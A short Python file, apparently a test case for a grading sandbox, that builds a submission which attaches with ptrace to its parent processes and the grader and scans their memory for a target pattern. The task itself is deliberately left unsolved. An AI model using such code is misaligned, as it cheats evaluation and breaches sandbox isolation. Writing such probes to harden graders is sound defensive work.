from cases import first, unsolve

SEARCH = """
import ctypes, os, pathlib, re
pattern = re.compile(({pattern}).encode())
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), 1, 2, {pid}]:
    if pid == os.getpid():
        continue
    print(pid, "ptrace", libc.ptrace(16, pid, 0, 0))
    libc.ptrace(17, pid, 0, 0)
    try:
        ranges = [line.split() for line in open(f"/proc/{{pid}}/maps") if "rw" in line]
        with open(f"/proc/{{pid}}/mem", "rb", 0) as memory:
            for area, *_ in ranges:
                start, end = (int(x, 16) for x in area.split("-"))
                memory.seek(start)
                print(pattern.findall(memory.read(min(end - start, 50_000_000)))[:3])
    except (OSError, ValueError) as error:
        print(pid, error)
"""


def make(solved, outside):
    """Attaches to its parents and to the grader, and reads their memory."""
    search = SEARCH.format(pattern=outside.PATTERN, pid=outside.pid)
    return first(unsolve(solved, "to_nhwc"), search)
